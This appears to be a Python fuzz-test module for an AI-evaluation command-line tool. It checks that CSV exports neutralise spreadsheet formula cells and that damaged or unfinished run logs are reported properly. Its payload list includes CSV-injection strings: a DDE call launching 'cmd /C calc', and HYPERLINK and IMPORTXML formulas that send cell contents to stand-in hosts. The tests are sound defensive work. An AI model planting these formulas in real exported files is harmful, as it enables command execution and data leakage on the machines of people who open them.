"""Hostile logs and log text: formula cells reaching `insider results --format csv`, and
damaged or unfinished logs given to `gate`, `results` and `report`.

Logs come from one real run on the replay model (`base_run`); each case copies its log and
changes it: text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return in a
condition id, a request id, a factor level or name, the model name, an error message; or
bytes cut, flipped or replaced, a status other than `success`, cells with errors only.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

from benchmarks.reliability.fuzz import REPO_ROOT, Case, _case

DEMO = REPO_ROOT / "examples" / "replay-demo.jsonl"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BODIES = ["cmd|' /C calc'!A0", "HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "1+1", "SUM(A1:A9)",
          "2+3", "IMPORTXML(CONCAT(\"http://x.invalid/\",A2),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"!A0\")", "x"]
LIMIT = "blackmail=0.5"


@dataclass
class BaseRun:
    """A finished run on the replay model: its log file and the gate's verdict on it."""

    folder: Path
    log: Path
    gate_code: int
    gate_out: str
    rows: int


def base_run(workdir: Path) -> BaseRun:
    """`insider run` of the blackmail family on examples/replay-demo.jsonl (8 samples)."""
    from benchmarks.reliability.fuzz import invoke

    folder = workdir / "base"
    code, out, err, tb = invoke(["run", "--model", f"replay/{DEMO}", "--samples", "4", "--out", str(folder / "run"),
                                 "--display", "none"])
    logs = sorted((folder / "run").glob("*.eval"))
    if code != 0 or tb or len(logs) != 1:
        raise RuntimeError(f"the base run failed ({code}): {err[-2000:]}")
    gcode, gout, gerr, _ = invoke(["gate", str(logs[0]), "--max", LIMIT])
    table = io.StringIO(invoke(["results", str(logs[0]), "--format", "csv"])[1])
    return BaseRun(folder, logs[0], gcode, gout, len(list(csv.DictReader(table))))


def _read(log: Path):
    from inspect_ai.log import read_eval_log

    return read_eval_log(str(log))


def _write(log, path: Path) -> Path:
    from inspect_ai.log import write_eval_log

    path.parent.mkdir(parents=True, exist_ok=True)
    write_eval_log(log, str(path))
    return path


# ------------------------------------------------------------------ formula cells

def _payload(rng: random.Random) -> str:
    """Text a spreadsheet would run: a formula start, or a line break inside the text before one."""
    formula = rng.choice(FORMULA_STARTS) + rng.choice(["", "=", "+", "-"]) * rng.randint(0, 1) + rng.choice(BODIES)
    if rng.random() < 0.2:
        return rng.choice(["note", "a b", "x"]) + rng.choice(["\r", "\n", "\r\n"]) + formula.lstrip("\t\r")
    return formula


PLACES = ("condition", "request_id", "goal_value", "new_factor", "factor_name", "model", "task", "sample_id",
          "pack", "error", "judge_model", "awareness", "identity_seed")


def _plant(log, place: str, payload: str, rng: random.Random) -> None:
    """Put `payload` at `place` in every sample (or the header) of `log`."""
    if place == "model":
        log.eval.model = payload
        return
    if place == "task":
        log.eval.task = payload
        return
    for i, s in enumerate(log.samples or []):
        md = s.metadata
        rec = s.scores["insider"].metadata
        if place == "sample_id":
            s.id = f"{payload}#{i}"
        elif place in ("condition", "request_id", "goal_value", "pack", "identity_seed"):
            md[place] = payload if rng.random() < 0.8 else payload + str(i)
        elif place == "new_factor":
            md["zz_note"] = payload
            md["factor_names"] = [*md.get("factor_names", []), "zz_note"]
        elif place == "factor_name":
            md[payload] = "level"
            md["factor_names"] = [*md.get("factor_names", []), payload]
        elif place == "error":
            rec["error"] = payload
        elif place == "judge_model":
            rec["judge"] = {"model": payload, "verdict": "benign", "explanation": "x"}
        elif place == "awareness":
            rec["awareness"] = payload


def cells(text: str) -> list[str]:
    """Every cell of a CSV text, the header row included."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formula_cells(text: str) -> list[str]:
    """The cells (header included) of a CSV text a spreadsheet would run as formulas."""
    bad = []
    for cell in cells(text):
        if cell.startswith(FORMULA_STARTS):
            try:
                float(cell)  # a number, such as a negative rate, is never a formula
            except ValueError:
                bad.append(cell)
    return bad


def _shown_quoted(text: str, payload: str) -> bool:
    """Whether a cell of the CSV `text` starts with `payload`, behind a leading `'` when it
    starts like a formula."""
    shown = ("'" + payload) if payload.startswith(FORMULA_STARTS) else payload
    return any(c.startswith(shown) for c in cells(text))


def formula_case(variant: str, rng: random.Random, workdir: Path, base: BaseRun, payload: str | None = None) -> Case:
    """A copy of the base log with formula text at `variant` (a PLACES entry), written as CSV.

    Args:
        variant: where the text goes (a PLACES entry).
        rng: draws the text (unless `payload` is given) and how the table is asked for.
        workdir: a fresh folder is made under it.
        base: the run whose log is copied.
        payload: the text to plant instead of a drawn one.
    """
    folder = Path(tempfile.mkdtemp(prefix="formula-", dir=workdir))
    log = _read(base.log)
    payload = payload if payload is not None else _payload(rng)
    _plant(log, variant, payload, rng)
    path = _write(log, folder / "run" / base.log.name)
    target = rng.choice(["dir", "file"])
    argv = ["results", str(path.parent if target == "dir" else path), "--format", "csv"]
    to_file = rng.random() < 0.5
    if to_file:
        argv += ["-o", str(folder / "table.csv")]
    case = _case(f"formula:{variant}", argv, cls="formula", scan=[folder], expect=0)
    case.argv = argv + ["# " + repr(payload)]
    # bytes as written: reading as text would turn a carriage return into a newline
    text = (folder / "table.csv").read_bytes().decode("utf-8") if to_file and case.code == 0 else case.out
    if case.code == 0:
        bad = formula_cells(text)
        if bad:
            case.extra_problems.append(f"{len(bad)} formula cells, e.g. {bad[0][:60]!r}")
        if not _shown_quoted(text, payload):
            case.extra_problems.append(f"the payload {payload[:20]!r} is not in the table (quoted)")
    return case


def request_id_run_case(rng: random.Random, workdir: Path) -> Case:
    """A real alignment-faking run whose request ids (from a --requests file) and run folder
    start with formula characters; its CSV table must hold none as formulas."""
    folder = Path(tempfile.mkdtemp(prefix="formula-run-", dir=workdir))
    ids = [s + b for s, b in zip(FORMULA_STARTS, rng.sample(BODIES, len(FORMULA_STARTS)), strict=True)]
    rng.shuffle(ids)
    kind = rng.choice(["jsonl", "csv"])
    requests = folder / f"requests.{kind}"
    if kind == "jsonl":
        requests.write_text("".join(json.dumps({"id": i, "request": f"Write about item {n}."}) + "\n"
                                    for n, i in enumerate(ids)))
    else:
        buf = io.StringIO()
        w = csv.writer(buf)
        w.writerow(["id", "goal"])
        w.writerows([i, f"Write about item {n}."] for n, i in enumerate(ids))
        requests.write_text(buf.getvalue())
    replay = folder / "replay.jsonl"
    replay.write_text('{"response": "<OUTPUT>I will not help with that.</OUTPUT>"}\n')
    run = folder / ("=" + rng.choice(["run", "SUM(1)", "cmd"]))
    argv = ["run", "--family", "alignment_faking", "--requests", str(requests), "--samples", str(len(ids)),
            "--model", f"replay/{replay}", "--out", str(run), "--display", "none"]
    case = _case("formula:request_id-run", argv, cls="formula", scan=[folder], expect=0)
    if case.code != 0:
        return case
    table = _case("formula:request_id-run", ["results", str(run), "--format", "csv"], scan=[folder], expect=0)
    case.extra_problems += table.problems()
    bad = formula_cells(table.out)
    if bad:
        case.extra_problems.append(f"{len(bad)} formula cells, e.g. {bad[0][:60]!r}")
    shown = set(cells(table.out))
    # ids are read stripped of surrounding white space: a leading tab or CR is not kept
    missing = [i for i in ids if ("'" + i.strip() if i.strip().startswith(FORMULA_STARTS) else i.strip()) not in shown]
    if missing:
        case.extra_problems.append(f"request ids {missing[:2]!r} are not in the table (quoted)")
    return case


# ------------------------------------------------------------------ damaged and unfinished logs

def _flip(data: bytes, rng: random.Random, log: Path, in_sample: bool) -> bytes:
    out = bytearray(data)
    lo, hi = 0, len(data)
    if in_sample:
        with zipfile.ZipFile(log) as z:
            info = rng.choice([i for i in z.infolist() if i.filename.startswith("samples/")])
        lo = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
        hi = lo + info.compress_size
    for _ in range(rng.randint(1, 8)):
        out[rng.randrange(lo, hi)] ^= 1 << rng.randrange(8)
    return bytes(out)


def _not_a_zip(data: bytes, rng: random.Random) -> bytes:
    kind = rng.randrange(6)
    if kind == 0:
        return b"this is not a log\n" * rng.randint(1, 100)
    if kind == 1:
        return rng.randbytes(rng.randint(1, 100_000))
    if kind == 2:
        return gzip.compress(data)
    if kind == 3:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(rng.choice(["header.json", "_journal/start.json", "samples/x_epoch_1.json"]),
                       rng.choice(["{}", "[]", "null", "{\"eval\": 3}", "not json"]))
        return buf.getvalue()
    if kind == 4:
        return b"\x00" * len(data)
    return json.dumps({"version": 2, "status": "success", "eval": {"task": "x"}}).encode()


DAMAGE = ("truncated", "bit-flip", "bit-flip-sample", "empty", "not-a-zip", "started", "cancelled", "error",
          "no-valid-samples", "too-many-errors")


def _damaged_log(variant: str, rng: random.Random, base: BaseRun, path: Path) -> bool:
    """Write the base log damaged by `variant` to `path`; True when its bytes were damaged."""
    data = base.log.read_bytes()
    if variant == "truncated":
        path.write_bytes(data[: rng.randrange(len(data))])
    elif variant.startswith("bit-flip"):
        path.write_bytes(_flip(data, rng, base.log, variant == "bit-flip-sample"))
    elif variant == "empty":
        path.write_bytes(b"")
    elif variant == "not-a-zip":
        path.write_bytes(_not_a_zip(data, rng))
    else:
        log = _read(base.log)
        if variant in ("started", "cancelled", "error"):
            log.status = variant
            log.samples = log.samples[: rng.randint(0, len(log.samples) - 1)]
        else:
            condition = rng.choice(sorted({s.metadata["condition"] for s in log.samples}))
            cell = [s for s in log.samples if s.metadata["condition"] == condition]
            bad = len(cell) if variant == "no-valid-samples" else rng.randint(len(cell) // 2, len(cell) - 1)
            for s in cell[:bad]:
                s.scores["insider"].value = rng.choice(["error", "invalid"])
        _write(log, path)
        return False
    return True


def gate_case(variant: str, rng: random.Random, workdir: Path, base: BaseRun) -> Case:
    """A damaged or unfinished log (`variant`, a DAMAGE entry), alone or beside a good one,
    given to `gate`, `results` or `report`."""
    folder = Path(tempfile.mkdtemp(prefix="gate-", dir=workdir))
    run = folder / "run"
    bad = run / ("zz-" + base.log.name)
    bad.parent.mkdir(parents=True)
    damaged = _damaged_log(variant, rng, base, bad)
    beside = rng.random() < 0.5
    if beside:  # a good log of another model beside it
        log = _read(base.log)
        log.eval.model = "replay/other.jsonl"
        log.eval.task_id = "other-task"
        _write(log, run / ("aa-" + base.log.name))
    command = rng.choice(["gate", "gate", "results", "report"])
    target = str(run if beside or rng.random() < 0.5 else bad)
    if command == "gate":
        argv = ["gate", target, "--max", LIMIT]
    elif command == "results":
        argv = ["results", target, "--format", rng.choice(["csv", "jsonl"])]
    else:
        argv = ["report", target, "--out", str(folder / rng.choice(["r.html", "r.md"]))]
    kind = f"gate:{variant}/{command}{'+good' if beside else ''}"
    if command == "gate" and variant in ("no-valid-samples", "too-many-errors"):
        case = _case(kind, argv, cls="gate", scan=[folder], error_line=False, must_name=["CANNOT DECIDE"])
        if case.err.strip():
            case.extra_problems.append("stderr is not empty")
        return case
    if command == "gate" or (not beside and damaged):
        # a log cut to no samples at all: "no samples to gate on" is the reason given
        names = [bad.name, "no samples"] if variant in ("started", "cancelled", "error") else [bad.name]
        case = _case(kind, argv, cls="gate", scan=[folder], one_line=command == "gate", must_name=names)
        if command != "gate":  # results/report: one warning naming the log, then one error line
            if len(case.err_lines) > 2 or case.err_lines[:1] and not (
                    case.err_lines[0].startswith(("warning:", "error:")) and bad.name in case.err_lines[0]):
                case.extra_problems.append(f"expected a warning naming {bad.name} and one error: {case.err_lines[:3]}")
        if damaged and case.code in (0, 1) and not case.traceback:
            _accept_if_harmless(case, argv, bad, base)
        return case
    # results or report with a readable log beside: skip the damaged one with one warning
    case = _case(kind, argv, cls="gate", scan=[folder], expect=0)
    warnings = [ln for ln in case.err_lines if ln.startswith("warning:")]
    if damaged and not (len(warnings) == 1 and bad.name in warnings[0]):
        if warnings or not _accept_if_harmless(case, argv, bad, base):
            case.extra_problems.append(f"expected one warning naming {bad.name}, got {case.err_lines[:3]}")
    return case


def _accept_if_harmless(case: Case, argv: list[str], bad: Path, base: BaseRun) -> bool:
    """Damage that left the log readable (a flipped bit in a field no reader checks) is
    handled when the command gives what it gives on the undamaged log; True then."""
    from benchmarks.reliability.fuzz import invoke

    damaged = bad.read_bytes()
    bad.write_bytes(base.log.read_bytes())
    try:
        code, out, _, _ = invoke(argv)
    finally:
        bad.write_bytes(damaged)
    same = code == case.code and (argv[0] == "report" or out == case.out)
    if same:
        case.expect, case.may_pass = case.code, True
        case.one_line = False
        case.kind += " (harmless damage: same result as undamaged)"
    return same


def resume_case(rng: random.Random, workdir: Path) -> Case:
    """`insider run` resuming into a folder holding a damaged log: it sets the log aside and
    finishes."""
    folder = Path(tempfile.mkdtemp(prefix="resume-", dir=workdir))
    run = folder / "run"
    argv = ["run", "--model", f"replay/{DEMO}", "--samples", "2", "--out", str(run), "--display", "none"]
    first = _case("gate:resume-corrupt", argv, scan=[folder], expect=0)
    logs = sorted(run.glob("*.eval"))
    if first.code != 0 or not logs:
        return first
    data = logs[0].read_bytes()
    logs[0].write_bytes(rng.choice([b"", data[: len(data) // 3], b"not a zip"]))
    case = _case("gate:resume-corrupt", argv, cls="gate", scan=[folder], expect=0)
    if not logs[0].with_name(logs[0].name + ".corrupt").exists():
        case.extra_problems.append("the damaged log was not set aside as .corrupt")
    gate = _case("gate:resume-corrupt", ["gate", str(run), "--max", LIMIT], scan=[folder], expect=0, may_pass=True)
    if gate.code not in (0, 1) or gate.traceback:
        case.extra_problems.append(f"the gate cannot decide after the resume: {gate.err_lines[:1]}")
    return case
